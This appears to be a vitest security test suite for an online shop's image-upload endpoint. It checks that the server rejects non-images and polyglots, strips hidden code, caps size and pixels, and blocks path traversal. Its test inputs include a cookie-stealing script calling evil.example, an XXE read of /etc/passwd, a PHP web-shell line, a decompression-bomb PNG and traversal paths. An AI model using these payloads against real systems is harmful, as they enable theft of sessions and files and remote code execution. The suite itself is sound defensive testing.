/** What strangers send instead of pictures, through the network to a shop that listens. */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { request as httpRequest } from 'node:http'
import { connect } from 'node:net'
import { join } from 'node:path'
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { uploadFile, uploadTemporaryFile } from '#contract/endpoints/file.ts'
import { newMember } from '../../testing/people.ts'
import { filesKept, photograph } from '../../testing/pictures.ts'
import { type TestShop, testShop } from '../../testing/test-shop.ts'

let shop: TestShop
let url: string
let token: string
beforeAll(async () => {
  shop = await testShop()
  url = await shop.app.listen({ host: '127.0.0.1', port: 0 })
})
afterAll(() => shop.close())

let members = 0
/** A member of its own for each test, so that none uses up another's hour. */
const somebody = async (): Promise<string> => {
  members += 1
  return (await newMember(shop, { account: `sender${members}` })).token
}

type Reply = { status: number; respCode: string; respMsg: string; data: Record<string, unknown> }

async function send(bytes: Buffer | string, headers: Record<string, string> = {}): Promise<Reply> {
  const answer = await fetch(`${url}/front${uploadFile.path}`, {
    method: 'POST',
    headers: { 'content-type': 'image/png', authorization: `Bearer ${token}`, ...headers },
    body: new Uint8Array(Buffer.from(bytes)),
  })
  return { status: answer.status, ...((await answer.json()) as Omit<Reply, 'status'>) }
}

const kept = () => filesKept(shop, 'public')
const keptBytes = (): Buffer =>
  Buffer.concat(kept().map((name) => readFileSync(join(shop.filesDir, 'public/uploads', name))))

/** A PNG as its format wants it, of chunks that nobody has to mean. */
function png(width: number, height: number, chunks: [string, Buffer][]): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([8, 0, 0, 0, 0], 8)
  const written = [['IHDR', head] as const, ...chunks, ['IEND', Buffer.alloc(0)] as const].map(
    ([type, data]) => {
      const body = Buffer.concat([Buffer.from(type), data])
      const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
      length.writeUInt32BE(data.length)
      sum.writeUInt32BE(crc32(body))
      return Buffer.concat([length, body, sum])
    },
  )
  return Buffer.concat([Buffer.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a), ...written])
}

describe('what is no picture', () => {
  const script = '<script>fetch("https://evil.example/?"+document.cookie)</script>'
  test.each([
    ['a page', `<!doctype html>${script}`],
    ['a drawing with a script', `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`],
    [
      'a drawing that names a file',
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    ],
    ['a program called .png', '<?php system($_GET["c"]); ?>'],
    ['a GIF that is a script as well', 'GIF89a/*\u0001\u0000\u0001\u0000*/=1;alert(1)//'],
    ['a document', '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>'],
    ['a program', '\u007fELF\u0002\u0001\u0001'],
    ['nothing', ''],
    ['a few letters', 'x'],
    ['a WAVE sound', 'RIFF\u0024\u0000\u0000\u0000WAVEfmt '],
  ])('%s is refused in words, and kept nowhere', async (_, bytes) => {
    token = await somebody()
    const before = kept()
    expect(await send(bytes)).toMatchObject({
      status: 200,
      respCode: 'FILE_NOT_PICTURE',
      respMsg: '仅支持JPG、PNG、WebP格式的静态图片',
    })
    expect(kept()).toEqual(before)
  })

  test.each([
    ['JPEG', Buffer.concat([Buffer.of(0xff, 0xd8, 0xff, 0xe0), Buffer.from(script)])],
    ['PNG', Buffer.concat([Buffer.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a), Buffer.from(script)])],
    ['WebP', Buffer.from(`RIFF\u0040\u0000\u0000\u0000WEBPVP8 ${script}`, 'latin1')],
  ])('a script behind the first bytes of a %s is a damaged picture', async (_, bytes) => {
    token = await somebody()
    const before = kept()
    expect((await send(bytes)).respCode).toBe('FILE_BROKEN')
    expect(kept()).toEqual(before)
  })

  test('a picture that was cut off is a damaged one', async () => {
    token = await somebody()
    const whole = await sharp({
      create: {
        width: 300,
        height: 300,
        channels: 3,
        noise: { type: 'gaussian', mean: 128, sigma: 40 },
        background: '#000',
      },
    })
      .jpeg()
      .toBuffer()
    expect((await send(whole.subarray(0, whole.length / 2))).respCode).toBe('FILE_BROKEN')
  })

  test('what moves is refused: WebP and PNG with more than one picture', async () => {
    token = await somebody()
    const frames = await Promise.all(
      ['red', 'blue'].map((background) =>
        sharp({ create: { width: 20, height: 20, channels: 4, background } })
          .png()
          .toBuffer(),
      ),
    )
    const moving = await sharp(frames, { join: { animated: true } })
      .webp()
      .toBuffer()
    expect((await sharp(moving).metadata()).pages).toBe(2)
    expect((await send(moving)).respCode).toBe('FILE_NOT_PICTURE')
    const control = Buffer.alloc(8, 0)
    control[3] = 2
    const apng = png(1, 1, [
      ['acTL', control],
      ['IDAT', deflateSync(Buffer.of(0, 255))],
    ])
    expect((await send(apng)).respCode).toBe('FILE_NOT_PICTURE')
    const still = png(1, 1, [['IDAT', deflateSync(Buffer.of(0, 255))]])
    expect((await send(still)).respCode).toBe('200')
  })
})

describe('a picture with something hidden', () => {
  test('keeps its pixels and loses the rest: programs in comments, in metadata and behind its end', async () => {
    token = await somebody()
    const mark = '<?php evil_mark(); ?><script>evil_mark()</script>'
    const jpeg = await sharp(await photograph(60, 40))
      .withExif({ IFD0: { ImageDescription: mark } })
      .toBuffer()
    const still = await photograph(60, 40, 'png')
    const commented = png(1, 1, [
      ['tEXt', Buffer.from(`Comment\u0000${mark}`)],
      ['IDAT', deflateSync(Buffer.of(0, 255))],
    ])
    for (const picture of [jpeg, still, commented]) {
      const polyglot = Buffer.concat([picture, Buffer.from(mark)])
      expect(polyglot.includes('evil_mark')).toBe(true)
      const answer = await send(polyglot)
      expect(answer.respCode).toBe('200')
      const shown = await fetch(`${url}/files/${String(answer.data['path'])}`)
      expect(shown.headers.get('content-type')).toBe('image/webp')
      expect(shown.headers.get('x-content-type-options')).toBe('nosniff')
      expect(Buffer.from(await shown.arrayBuffer()).includes('evil_mark')).toBe(false)
    }
    expect(keptBytes().includes('evil_mark')).toBe(false)
  })
})

describe('a type that lies', () => {
  test.each([
    'text/html',
    'image/svg+xml',
    'application/x-php',
    'multipart/form-data; boundary=x',
    'application/json',
    'text/plain',
    'x/y',
  ])(
    'decides nothing: a page sent as a picture is refused, a picture sent as %s is a picture',
    async (contentType) => {
      token = await somebody()
      expect(
        (await send('<!doctype html><script>1</script>', { 'content-type': 'image/jpeg' })).respCode,
      ).toBe('FILE_NOT_PICTURE')
      const answer = await send(await photograph(20, 20), { 'content-type': contentType })
      expect(answer.respCode).toBe('200')
      const shown = await fetch(`${url}/files/${String(answer.data['path'])}`)
      expect(shown.headers.get('content-type')).toBe('image/webp')
    },
  )

  test('cannot be served as another type because a caller asks for it', async () => {
    token = await somebody()
    const { data } = await send(await photograph(20, 20))
    for (const path of [`${data['path']}.html`, `${data['path']}/x.html`, `${data['path']}%00.html`])
      expect((await fetch(`${url}/files/${path}`)).status, path).toBeGreaterThanOrEqual(400)
    expect(
      (await fetch(`${url}/files/${data['path']}?x=.html`, { headers: { accept: 'text/html' } })).headers.get(
        'content-type',
      ),
    ).toBe('image/webp')
  })
})

describe('too much', () => {
  const tooLarge = {
    status: 200,
    respCode: 'FILE_TOO_LARGE',
    respMsg: '文件不能超过5MB',
  }
  const huge = Buffer.concat([Buffer.of(0xff, 0xd8, 0xff), Buffer.alloc(7 * 1024 * 1024)])

  test('is refused in words that reach the sender', async () => {
    token = await somebody()
    expect(await send(huge)).toMatchObject(tooLarge)
    expect(await send(huge, { 'accept-language': 'en-US' })).toMatchObject({
      respMsg: 'A file may have 5 MB at most',
    })
  })

  test('is refused as well when nobody says how much will come', async () => {
    token = await somebody()
    const answer = await chunked(huge)
    expect(answer).toMatchObject(tooLarge)
  })

  test('that never ends is cut off', async () => {
    token = await somebody()
    const { sentBytes, answer } = await endless()
    expect(sentBytes).toBeLessThan(64 * 1024 * 1024)
    // Who never stops to listen may lose the answer with the line: TCP throws away what was not read yet.
    expect(answer).toMatch(/^$|FILE_TOO_LARGE/)
    expect((await send(await photograph(20, 20))).respCode).toBe('200')
  })

  test('of a file is never more than the megabytes named: one byte less is read, and looked at', async () => {
    token = await somebody()
    const exact = Buffer.concat([Buffer.from('x'), Buffer.alloc(5 * 1024 * 1024 - 1)])
    expect((await send(exact)).respCode).toBe('FILE_NOT_PICTURE')
    expect((await send(Buffer.concat([exact, Buffer.of(0)]))).respCode).toBe('FILE_TOO_LARGE')
  })

  test('of pixels in few bytes is refused before they unfold', async () => {
    token = await somebody()
    const row = Buffer.alloc(30_001)
    const bomb = png(30_000, 30_000, [
      ['IDAT', deflateSync(Buffer.concat(Array.from({ length: 300 }, () => row)), { level: 9 })],
    ])
    expect(bomb.length).toBeLessThan(100_000)
    const before = process.memoryUsage().rss
    expect(await send(bomb)).toMatchObject({
      respCode: 'FILE_TOO_MANY_PIXELS',
      respMsg: '图片尺寸过大，最多24百万像素',
    })
    expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1024 * 1024)
    const wide = png(4_000_000_000, 4_000_000_000, [['IDAT', deflateSync(row)]])
    expect((await send(wide)).respCode).toMatch(/^FILE_(BROKEN|TOO_MANY_PIXELS)$/)
  })

  test('of pixels in one line is refused before any is drawn: behind these heads there is but one', async () => {
    token = await somebody()
    const onePixel: [string, Buffer][] = [['IDAT', deflateSync(Buffer.of(0, 0))]]
    for (const [width, height] of [
      [1, 24_000_000],
      [24_000_000, 1],
      [1, 16_385],
    ] as const)
      expect(await send(png(width, height, onePixel))).toMatchObject({
        respCode: 'FILE_TOO_LONG',
        respMsg: '图片过长或过宽，单边最多16384像素',
      })
    expect((await send(png(1, 16_384, onePixel))).respCode).toBe('FILE_BROKEN')
  })

  test('from who may not send is refused before it is read, and the shop answers on', async () => {
    token = 'A'.repeat(43)
    expect(await send(huge)).toMatchObject({ status: 403, respCode: 'LOGIN_NEEDED' })
    token = await somebody()
    expect((await send(await photograph(20, 20))).respCode).toBe('200')
  })

  test('at once is stood in line for: twenty members with large pictures, each answered', async () => {
    const bytes = await photograph(3000, 2000)
    token = await somebody()
    const answers = await Promise.all(Array.from({ length: 20 }, () => send(bytes)))
    expect(new Set(answers.map(({ respCode }) => respCode))).toEqual(new Set(['200', 'BUSY']))
    expect(answers.filter(({ respCode }) => respCode === '200').length).toBeGreaterThanOrEqual(13)
  })
})

describe('a way out of the folder', () => {
  test.each([
    ...[
      '/files/../secret.txt',
      '/files/%2e%2e/secret.txt',
      '/files/..%2fsecret.txt',
      '/files/..%5csecret.txt',
    ],
    ...['/files/uploads/../../secret.txt', '/files/temp/../secret.txt', '/files/temp/%2e%2e/secret.txt'],
    ...['/files/temp/..%2f..%2fsecret.txt', '/files/%252e%252e/secret.txt', '/files//../secret.txt'],
    ...[
      '/files/secret.txt%00.webp',
      '/files/temp/%00',
      '/files/.hidden.webp',
      '/files/uploads/.parts/half.webp.1',
    ],
    ...['/files/uploads', '/files/uploads/', '/files/temp/uploads/', '/files/temp'],
  ])('%s leads nowhere', async (path) => {
    mkdirSync(join(shop.filesDir, 'public/uploads/.parts'), { recursive: true })
    writeFileSync(join(shop.filesDir, 'secret.txt'), 'the secret of the house')
    writeFileSync(join(shop.filesDir, 'public/.hidden.webp'), 'the secret of the house')
    writeFileSync(join(shop.filesDir, 'public/uploads/.parts/half.webp.1'), 'the secret of the house')
    const answer = await raw(`GET ${path} HTTP/1.1\r\nhost: shop\r\nconnection: close\r\n\r\n`)
    expect(answer).toMatch(/^HTTP\/1\.1 (404|400) /)
    expect(answer).not.toContain('the secret of the house')
  })

  test.each([
    '..%2f..%2fsecret.txt',
    '%2e%2e',
    'secret.txt%00.webp',
    `${'a'.repeat(27)}.webp`,
    `${'A'.repeat(26)}.webp`,
    'x.svg',
  ])('is no name of a file that is deleted: %s', async (name) => {
    token = await somebody()
    const answer = await raw(
      `DELETE /front/api/files/${name} HTTP/1.1\r\nhost: shop\r\nauthorization: Bearer ${token}\r\nconnection: close\r\n\r\n`,
    )
    expect(answer).toMatch(/^HTTP\/1\.1 (404|400) /)
    expect(existsSync(join(shop.filesDir, 'secret.txt'))).toBe(true)
  })

  test('is not to be named by who sends: headers about names change nothing', async () => {
    token = await somebody()
    const { data } = await send(await photograph(20, 20), {
      'content-disposition': 'attachment; filename="../../shell.php"',
      'x-file-name': '../../shell.php',
      slug: '../../shell.php',
    })
    expect(data['path']).toMatch(/^uploads\/[a-z2-7]{26}\.webp$/)
  })
})

/** In pieces, without a length. */
function chunked(bytes: Buffer): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const { hostname, port } = new URL(url)
    const sending = httpRequest(
      {
        hostname,
        port,
        method: 'POST',
        path: `/front${uploadTemporaryFile.path}`,
        headers: {
          authorization: `Bearer ${token}`,
          'content-type': 'image/jpeg',
          'transfer-encoding': 'chunked',
        },
      },
      async (answer) => {
        const parts: Buffer[] = []
        for await (const part of answer) parts.push(part as Buffer)
        resolve({ status: answer.statusCode ?? 0, ...JSON.parse(Buffer.concat(parts).toString()) })
      },
    )
    sending.on('error', reject)
    sending.end(bytes)
  })
}

/** Sends until it is stopped. */
async function endless(): Promise<{ sentBytes: number; answer: string }> {
  const { hostname, port } = new URL(url)
  const socket = connect(Number(port), hostname)
  let answer = ''
  let sentBytes = 0
  socket.on('data', (part) => {
    answer += part.toString()
  })
  const closed = new Promise<void>((resolve) => {
    socket.on('close', () => resolve())
    socket.on('error', () => resolve())
  })
  socket.write(
    `POST /front${uploadTemporaryFile.path} HTTP/1.1\r\nhost: shop\r\nauthorization: Bearer ${token}\r\ntransfer-encoding: chunked\r\n\r\n`,
  )
  const piece = Buffer.concat([Buffer.from('10000\r\n'), Buffer.alloc(0x10000), Buffer.from('\r\n')])
  const pump = () => {
    while (!socket.destroyed && sentBytes < 256 * 1024 * 1024) {
      sentBytes += piece.length
      if (!socket.write(piece)) return
    }
  }
  socket.on('drain', pump)
  pump()
  await closed
  return { sentBytes, answer }
}

/** Exactly these bytes: a client of any manners would tidy the path. */
function raw(text: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const { hostname, port } = new URL(url)
    const socket = connect(Number(port), hostname, () => socket.write(text))
    let answer = ''
    socket.on('data', (part) => {
      answer += part.toString()
    })
    socket.on('end', () => resolve(answer))
    socket.on('error', reject)
  })
}
